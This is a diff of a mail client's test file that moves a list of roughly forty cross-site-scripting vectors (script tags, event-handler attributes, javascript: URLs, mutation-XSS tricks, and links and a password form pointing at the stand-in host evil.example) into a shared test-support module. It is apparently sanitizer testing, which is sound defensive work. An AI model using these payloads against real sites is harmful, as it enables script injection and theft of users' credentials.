@@ -4,52 +4,8 @@ import { attributes } from "#shared/domain/mail/html/attribute.ts";
 import { scanHtml } from "#shared/domain/mail/html/scan.ts";
 import { composeForward } from "#shared/domain/mail/write/compose/compose-forward.ts";
 import { composeReply } from "#shared/domain/mail/write/compose/compose-reply.ts";
+import { hostileHtml as vectors } from "#test/support/hostile-html.ts";
 import { aMessage } from "./conversation.ts";
-
-const vectors = [
-  "<script>alert(1)</script>",
-  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-  "<scr<script>ipt>alert(1)</scr</script>ipt>",
-  "<img src=x onerror=alert(1)>",
-  "<img src=x onerror=alert(1)//",
-  "<img/src/onerror=alert(1)>",
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  "<svg onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  "<svg><style><img src=x onerror=alert(1)></style></svg>",
-  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-  "<body onload=alert(1)>",
-  "<iframe src=javascript:alert(1)></iframe>",
-  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href=" &#1; javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<div style="background:url(javascript:alert(1))">x</div>',
-  '<div style="width:expression(alert(1));color:red">x</div>',
-  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
-  '<div style="background:\\75rl(https://evil.example)">x</div>',
-  "<style>@import 'https://evil.example/x.css';</style>",
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-  "<template><script>alert(1)</script></template>",
-  '"><script>alert(1)</script>',
-  "'-alert(1)-'",
-  "</blockquote></div></body></html><script>alert(1)</script>",
-  "<!--><script>alert(1)</script>-->",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "<details open ontoggle=alert(1)>",
-  "<a id=x name=y class=z href=https://ok.example>x</a>",
-  '<input autofocus onfocus="alert(1)">',
-  "<plaintext><script>alert(1)</script>",
-];
 
 const safeTags = new Set(
   "p div span br blockquote b strong i em u a img ul ol li table tbody tr td th h1 h2 h3 pre code font center hr small".split(" "),
